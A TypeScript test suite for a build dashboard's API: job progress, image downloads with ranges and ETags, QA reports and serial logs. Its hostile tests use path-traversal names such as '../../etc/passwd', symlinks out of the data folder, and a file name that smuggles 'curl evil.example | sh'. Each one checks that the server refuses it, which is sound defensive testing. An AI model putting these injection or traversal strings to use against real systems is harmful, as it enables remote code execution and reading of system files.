import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { createApp } from '../../src/api/app.ts';
import { BuildFiles } from '../../src/api/build-files.ts';
import { summarizeProgress } from '../../src/api/job-progress.ts';
import type { JobEvent } from '../../src/queue/queue.ts';
import { publishRelease } from '../../src/release/publish-release.ts';
import { bearer, tokenFor } from './fixtures/auth.ts';
import { succeededBuild } from './fixtures/build-output.ts';
import { makeServices } from './fixtures/services.ts';

/** The builds dashboard's API: a job's progress, a build's output folder, its QA report and serial logs. */
describe('jobs dashboard API', () => {
  let env: Awaited<ReturnType<typeof makeServices>>;
  let app: ReturnType<typeof createApp>;
  let dataDir = '';
  let viewer = '';
  let outside = '';
  const get = async (path: string, token = viewer, headers: Record<string, string> = {}) =>
    app.request(path, { headers: { ...headers, ...(token ? bearer(token) : {}) } });
  const body = async (path: string, token = viewer) => {
    const res = await get(path, token);
    assert.equal(res.status, 200, `${path}: ${res.status} ${await res.clone().text()}`);
    return res.json();
  };
  /** A succeeded build whose QA booted both firmwares and left serial logs, with checks that passed, failed and were skipped. */
  const bootedBuild = async (serial: Record<string, string>) => {
    const id = await succeededBuild(env.svc, dataDir);
    const qa = join(dataDir, 'builds', id, 'qa');
    const report = JSON.parse(readFileSync(join(qa, 'report.json'), 'utf8'));
    report.passed = false;
    report.results = [
      { id: 'A1', title: 'no SSH host keys in the image', phase: 'static', status: 'pass', findings: [], durationMs: 3 },
      { id: 'B2', title: 'cloud-init finished', phase: 'boot:bios', status: 'fail', findings: [{ message: 'status: error', path: '/var/log/cloud-init.log' }], durationMs: 40 },
      { id: 'B9', title: 'secure boot', phase: 'boot:uefi', status: 'skip', findings: [], reason: 'no OVMF', durationMs: 0 },
    ];
    // absolute paths as the build machine wrote them: the API must not follow them
    report.boots = Object.keys(serial).map((firmware) => ({ firmware, accel: 'tcg', accelSource: 'probe', secondsToLoginPrompt: 12.5, serialLog: '/etc/passwd' }));
    writeFileSync(join(qa, 'report.json'), JSON.stringify(report));
    for (const [firmware, text] of Object.entries(serial)) writeFileSync(join(qa, `serial-${firmware}.log`), text);
    return id;
  };

  before(async () => {
    env = await makeServices('herd-dash-');
    dataDir = join(env.dir, 'data');
    app = createApp(env.svc, { dataDir, eventPollMs: 20 });
    viewer = await tokenFor(env.svc, 'viewer');
    outside = mkdtempSync(join(tmpdir(), 'herd-dash-outside-'));
    writeFileSync(join(outside, 'secret.log'), 'SECRET-OUTSIDE-THE-DATA-DIR\n');
  });
  after(async () => {
    await env.cleanup();
    rmSync(outside, { recursive: true, force: true });
  });

  test('progress follows the latest attempt: phase, steps of the plan, stage running, QA counts, last line', async () => {
    const job = await env.svc.queue.enqueue('build', { v: 2, recipe: 'base' });
    const log = (type: string, data: unknown) => env.svc.queue.log(job.id, type, data);
    await log('progress', { phase: 'load', detail: 'recipes/base.yaml' });
    await log('progress', { phase: 'execute', detail: '9 steps' });
    await log('progress', { step: 's1', stage: 'rootfs', status: 'built' });
    await log('error', { attempt: 1, error: 'network down' });
    await log('progress', { phase: 'load', detail: 'recipes/base.yaml' });
    await log('progress', { phase: 'execute', detail: '4 steps' });
    await log('progress', { step: 's1', stage: 'rootfs', status: 'cached' });
    await log('progress', { step: 's2', stage: 'disk', status: 'running' });
    await log('log', { line: 'writing partition table' });
    let p = await body(`/api/jobs/${job.id}/progress`);
    assert.deepEqual({ ...p, at: undefined }, { phase: 'execute', detail: '4 steps', stepsTotal: 4, stepsDone: 1, stage: 'disk', lastLine: 'writing partition table', qa: { pass: 0, fail: 0, skip: 0, error: 0 }, at: undefined });
    await log('progress', { step: 's2', stage: 'disk', status: 'built', seconds: 2 });
    await log('log', { line: 'QA pass A1 no SSH host keys' });
    await log('log', { line: 'QA fail B2 cloud-init finished' });
    p = await body(`/api/jobs/${job.id}/progress`);
    assert.equal(p.phase, 'qa');
    assert.equal(p.stepsDone, 2);
    assert.deepEqual(p.qa, { pass: 1, fail: 1, skip: 0, error: 0 });
    assert.ok(Date.parse(p.at) > 0);
    await env.svc.queue.cancel(job.id); // the fixtures below claim the one queued build
  });

  test('progress of a job without events, and of one whose events hold other shapes', () => {
    assert.deepEqual(summarizeProgress([]), { stepsDone: 0, qa: { pass: 0, fail: 0, skip: 0, error: 0 } });
    const odd: JobEvent[] = [
      { id: 1, jobId: 'j', at: '2026-01-01T00:00:00.000Z', type: 'progress', data: null },
      { id: 2, jobId: 'j', at: '2026-01-01T00:00:01.000Z', type: 'log', data: 'not an object' },
      { id: 3, jobId: 'j', at: '2026-01-01T00:00:02.000Z', type: 'progress', data: { phase: 'execute', detail: 'many steps' } },
    ];
    assert.deepEqual(summarizeProgress(odd), { stepsDone: 0, qa: { pass: 0, fail: 0, skip: 0, error: 0 }, phase: 'execute', detail: 'many steps', at: '2026-01-01T00:00:02.000Z' });
  });

  test('a succeeded build: its image files, QA verdict, and the release it became once published', async () => {
    const id = await succeededBuild(env.svc, dataDir, { version: '2026.12.01.0' });
    const b = await body(`/api/jobs/${id}/build`);
    assert.equal(b.present, true);
    assert.equal(b.name, 'base');
    assert.deepEqual(b.outputs.map((o: any) => o.file), ['disk.qcow2', 'disk.raw.xz']);
    assert.match(b.outputs[0].sha256, /^[0-9a-f]{64}$/);
    assert.deepEqual(b.qa, { passed: true, scope: 'all', testedAt: '2026-11-25T12:00:00.000Z', failed: [] });
    assert.equal(b.hasQaReport, true);
    assert.equal(b.release, null);
    // as a build with publish: true ends: its result names the release
    const release = await publishRelease(env.svc, join(dataDir, 'builds', id));
    const job = await env.svc.queue.enqueue('build', { v: 2, recipe: 'base' });
    await env.svc.queue.claim('w', ['build']);
    await env.svc.queue.finish(job.id, 'w', { releaseId: release.id });
    const published = await body(`/api/jobs/${job.id}/build`);
    assert.deepEqual(published.release, { id: release.id, productId: 'base', version: '2026.12.01.0', channel: 'testing', state: 'published', revoked: false });
    assert.equal(published.present, false);
  });

  test('the QA report: checks with findings, boot figures, and the end of each serial log', async () => {
    const big = `${'early boot line\n'.repeat(20_000)}login: \n`;
    const id = await bootedBuild({ bios: 'SeaBIOS\nDebian GNU/Linux 13 debian ttyS0\n', uefi: big });
    const r = await body(`/api/jobs/${id}/qa`);
    assert.equal(r.passed, false);
    assert.equal(r.image, 'disk.qcow2');
    assert.deepEqual(r.results.map((x: any) => `${x.id}:${x.status}`), ['A1:pass', 'B2:fail', 'B9:skip']);
    assert.deepEqual(r.results[1].findings, [{ message: 'status: error', path: '/var/log/cloud-init.log' }]);
    const [bios, uefi] = r.boots;
    assert.equal(bios.firmware, 'bios');
    assert.equal(bios.secondsToLoginPrompt, 12.5);
    assert.deepEqual(bios.serialLog, { text: 'SeaBIOS\nDebian GNU/Linux 13 debian ttyS0\n', bytes: 41, truncated: false });
    assert.equal(uefi.serialLog.truncated, true);
    assert.equal(uefi.serialLog.bytes, big.length);
    assert.ok(uefi.serialLog.text.length <= 256 * 1024);
    assert.ok(uefi.serialLog.text.startsWith('early boot line\n'), 'a tail starts at a whole line');
    assert.ok(uefi.serialLog.text.endsWith('login: \n'));
    assert.doesNotMatch(JSON.stringify(r), /root:x:0/, 'the report\'s own serialLog paths are never read');
  });

  test('hostile: symlinks out of the build folder read as absent', async () => {
    const id = await bootedBuild({ bios: 'real\n', uefi: 'real\n' });
    const qa = join(dataDir, 'builds', id, 'qa');
    rmSync(join(qa, 'serial-bios.log'));
    symlinkSync(join(outside, 'secret.log'), join(qa, 'serial-bios.log'));
    const r = await body(`/api/jobs/${id}/qa`);
    assert.equal(r.boots[0].serialLog, null);
    assert.equal(r.boots[1].serialLog.text, 'real\n');
    assert.doesNotMatch(JSON.stringify(r), /SECRET/);

    // the qa folder itself, then the whole job folder, pointing elsewhere
    const moved = join(outside, `qa-${id}`);
    renameSync(qa, moved);
    symlinkSync(moved, qa);
    const res = await get(`/api/jobs/${id}/qa`);
    assert.equal(res.status, 404);
    assert.equal((await res.json()).code, 'job.no_qa_report');
    const folder = join(dataDir, 'builds', id);
    const elsewhere = join(outside, `build-${id}`);
    rmSync(qa);
    renameSync(moved, qa);
    renameSync(folder, elsewhere);
    symlinkSync(elsewhere, folder);
    const b = await body(`/api/jobs/${id}/build`);
    assert.equal(b.present, false);
    assert.equal(b.hasQaReport, false);
    assert.equal((await get(`/api/jobs/${id}/qa`)).status, 404);
  });

  test('hostile: a report or manifest that is not what herd writes is not served', async () => {
    const id = await succeededBuild(env.svc, dataDir);
    const folder = join(dataDir, 'builds', id);
    writeFileSync(join(folder, 'qa', 'report.json'), '{"reportVersion": 1, "<script>": 1');
    writeFileSync(join(folder, 'manifest.json'), JSON.stringify({ schemaVersion: 1, name: 'Bad Name!', outputs: [] }));
    assert.equal((await get(`/api/jobs/${id}/qa`)).status, 404);
    const b = await body(`/api/jobs/${id}/build`);
    assert.equal(b.present, false);
    assert.deepEqual(b.outputs, []);
    // a directory where a file is expected
    rmSync(join(folder, 'qa', 'report.json'));
    mkdirSync(join(folder, 'qa', 'report.json'));
    assert.equal((await get(`/api/jobs/${id}/qa`)).status, 404);
  });

  test('a build\'s image file downloads as the build wrote it: whole, by range, revalidated, HEAD', async () => {
    const id = await succeededBuild(env.svc, dataDir, { size: 300_000 });
    const bytes = readFileSync(join(dataDir, 'builds', id, 'disk.qcow2'));
    const listed = (await body(`/api/jobs/${id}/build`)).outputs.find((o: any) => o.file === 'disk.qcow2');
    const url = `/api/jobs/${id}/outputs/disk.qcow2`;
    const whole = await get(url);
    assert.equal(whole.status, 200);
    assert.ok(Buffer.from(await whole.arrayBuffer()).equals(bytes), 'the file\'s bytes, all of them');
    const etag = `"sha256-${listed.sha256}"`;
    assert.equal(whole.headers.get('etag'), etag);
    assert.equal(whole.headers.get('content-length'), String(bytes.length));
    assert.equal(whole.headers.get('content-disposition'), 'attachment; filename="disk.qcow2"');
    assert.equal(whole.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(whole.headers.get('accept-ranges'), 'bytes');
    assert.ok(whole.headers.get('content-type'));

    const part = await get(url, viewer, { range: 'bytes=1000-1999' });
    assert.equal(part.status, 206);
    assert.equal(part.headers.get('content-range'), `bytes 1000-1999/${bytes.length}`);
    assert.equal(part.headers.get('content-length'), '1000');
    assert.ok(Buffer.from(await part.arrayBuffer()).equals(bytes.subarray(1000, 2000)));
    const tail = await get(url, viewer, { range: 'bytes=-10' });
    assert.equal(tail.status, 206);
    assert.ok(Buffer.from(await tail.arrayBuffer()).equals(bytes.subarray(bytes.length - 10)));
    // If-Range naming this content keeps the range; another ETag gets the whole file
    const same = await get(url, viewer, { range: 'bytes=0-9', 'if-range': etag });
    assert.equal(same.status, 206);
    assert.ok(Buffer.from(await same.arrayBuffer()).equals(bytes.subarray(0, 10)));
    const stale = await get(url, viewer, { range: 'bytes=0-9', 'if-range': `"sha256-${'0'.repeat(64)}"` });
    assert.equal(stale.status, 200);
    assert.equal((await stale.arrayBuffer()).byteLength, bytes.length);
    const beyond = await get(url, viewer, { range: `bytes=${bytes.length}-` });
    assert.equal(beyond.status, 416);
    assert.equal(beyond.headers.get('content-range'), `bytes */${bytes.length}`);

    const cached = await get(url, viewer, { 'if-none-match': etag });
    assert.equal(cached.status, 304);
    assert.equal((await cached.arrayBuffer()).byteLength, 0);
    const changedTag = await get(url, viewer, { 'if-none-match': `"sha256-${'0'.repeat(64)}"` });
    assert.equal(changedTag.status, 200);
    await changedTag.body?.cancel(); // a client that stops reading: the descriptor is closed, not left to GC
    const head = await app.request(url, { method: 'HEAD', headers: bearer(viewer) });
    assert.equal(head.status, 200);
    assert.equal(head.headers.get('content-length'), String(bytes.length));
    assert.equal((await head.arrayBuffer()).byteLength, 0);

    // published or not: the file of a build that became a release downloads the same way
    const other = await get(`/api/jobs/${id}/outputs/disk.raw.xz`);
    assert.equal(other.status, 200);
    assert.ok(Buffer.from(await other.arrayBuffer()).equals(readFileSync(join(dataDir, 'builds', id, 'disk.raw.xz'))));
  });

  test('hostile: only a file the manifest lists, by a plain name, inside the job\'s own folder', async () => {
    const id = await succeededBuild(env.svc, dataDir);
    const folder = join(dataDir, 'builds', id);
    const out = (file: string, token = viewer) => get(`/api/jobs/${id}/outputs/${encodeURIComponent(file)}`, token);
    const refused = async (file: string, code = 'job.output_not_found') => {
      const res = await out(file);
      const text = await res.text();
      assert.equal(res.status, 404, `${file}: ${res.status} ${text.slice(0, 200)}`);
      assert.equal(JSON.parse(text).code, code, file);
      assert.doesNotMatch(text, /SECRET|root:x:0/);
    };
    const anon = await out('disk.qcow2', '');
    assert.equal(anon.status, 401);
    assert.equal((await anon.json()).code, 'api.unauthenticated');
    // files of the folder the manifest does not list as outputs
    for (const file of ['SHA256SUMS', 'manifest.json', 'qa', 'nope.qcow2']) await refused(file);
    const served = await out('disk.qcow2');
    assert.equal(served.status, 200);
    assert.equal((await served.arrayBuffer()).byteLength, readFileSync(join(folder, 'disk.qcow2')).length);

    // a manifest naming paths: refused, and nothing it names is read
    mkdirSync(join(folder, 'a'));
    writeFileSync(join(folder, 'a', 'b'), 'SECRET-IN-A-SUBFOLDER\n');
    const manifest = JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8'));
    const good = manifest.outputs[0];
    const hostile = ['../../etc/passwd', '/etc/passwd', 'a/b', `../${id}/disk.qcow2`, join(outside, 'secret.log'), '.hidden'];
    writeFileSync(join(folder, 'manifest.json'), JSON.stringify({ ...manifest, outputs: [...manifest.outputs, ...hostile.map((file) => ({ ...good, file }))] }));
    for (const file of hostile) await refused(file);
    // a name with a quote would break out of the portal's `sha256sum -c` line: a manifest holding one is no
    // manifest (its schema allows plain file names only), so the build view lists nothing from it
    const quoted = "disk.img'; curl evil.example | sh; echo '";
    writeFileSync(join(folder, 'manifest.json'), JSON.stringify({ ...manifest, outputs: [...manifest.outputs, { ...good, file: quoted }] }));
    const listedView = await body(`/api/jobs/${id}/build`);
    assert.deepEqual([listedView.present, listedView.outputs], [false, []]);
    await refused(quoted);
    // the same names given straight to BuildFiles (the layer under the route): none opens, a listed one does
    const files = new BuildFiles(dataDir);
    for (const file of [...hostile, 'qa/report.json', 'a/./b', '..']) assert.equal(await files.openOutput(id, file), undefined, file);
    const opened = await files.openOutput(id, 'disk.qcow2');
    assert.equal(opened?.size, good.size);
    await opened!.close();
    writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));

    // the image file a symlink to a file outside, of the very size the manifest records
    writeFileSync(join(outside, 'same-size.img'), Buffer.alloc(good.size, 'SECRET'));
    rmSync(join(folder, 'disk.qcow2'));
    symlinkSync(join(outside, 'same-size.img'), join(folder, 'disk.qcow2'));
    await refused('disk.qcow2');
    assert.equal(await files.openOutput(id, 'disk.qcow2'), undefined);
    // a file that changed after the build: its size is not what the manifest (and the ETag) describe
    rmSync(join(folder, 'disk.qcow2'));
    writeFileSync(join(folder, 'disk.qcow2'), 'SECRET-SHORTER');
    const changed = await out('disk.qcow2');
    assert.equal(changed.status, 409);
    assert.equal((await changed.json()).code, 'job.output_changed');

    // the job folder itself a symlink out, to a complete output folder
    const second = await succeededBuild(env.svc, dataDir);
    const secondFolder = join(dataDir, 'builds', second);
    const elsewhere = join(outside, `build-${second}`);
    renameSync(secondFolder, elsewhere);
    symlinkSync(elsewhere, secondFolder);
    const res = await get(`/api/jobs/${second}/outputs/disk.qcow2`);
    assert.equal(res.status, 404);
    assert.doesNotMatch(await res.text(), /a-qcow2/);
    assert.equal(await files.openOutput(second, 'disk.qcow2'), undefined);

    // not a build job, no such job, no data folder
    const noop = await env.svc.queue.enqueue('noop', { v: 1 });
    const notBuild = await get(`/api/jobs/${noop.id}/outputs/disk.qcow2`);
    assert.equal(notBuild.status, 404);
    assert.equal((await notBuild.json()).code, 'job.not_a_build');
    const unknown = await get('/api/jobs/00000000-0000-4000-8000-000000000000/outputs/disk.qcow2');
    assert.equal((await unknown.json()).code, 'job.not_found');
    const third = await succeededBuild(env.svc, dataDir);
    const bare = await createApp(env.svc, {}).request(`/api/jobs/${third}/outputs/disk.qcow2`, { headers: bearer(viewer) });
    assert.equal(bare.status, 404);
    assert.equal((await bare.json()).code, 'job.output_not_found');
  });

  test('only build jobs have outputs; unknown jobs and bad ids are refused; a viewer role is needed', async () => {
    const noop = await env.svc.queue.enqueue('noop', { v: 1 });
    const notBuild = await get(`/api/jobs/${noop.id}/build`);
    assert.equal(notBuild.status, 404);
    assert.equal((await notBuild.json()).code, 'job.not_a_build');
    assert.equal((await get(`/api/jobs/${noop.id}/progress`)).status, 200);
    for (const path of ['progress', 'build', 'qa']) {
      assert.equal((await get(`/api/jobs/00000000-0000-4000-8000-000000000000/${path}`)).status, 404);
      assert.equal((await get(`/api/jobs/..%2F..%2Fetc/${path}`)).status, 400);
      const anon = await get(`/api/jobs/${noop.id}/${path}`, '');
      assert.equal(anon.status, 401);
      const err = await anon.json();
      assert.equal(err.code, 'api.unauthenticated');
      assert.ok(err.hint);
    }
  });

  test('a server without a data folder (or whose worker ran elsewhere) answers with what it has', async () => {
    const id = await succeededBuild(env.svc, dataDir);
    const bare = createApp(env.svc, {});
    const b = await (await bare.request(`/api/jobs/${id}/build`, { headers: bearer(viewer) })).json();
    assert.equal(b.present, false);
    const qa = await bare.request(`/api/jobs/${id}/qa`, { headers: bearer(viewer) });
    assert.equal(qa.status, 404);
    assert.match((await qa.json()).hint, /another machine/);
  });
});
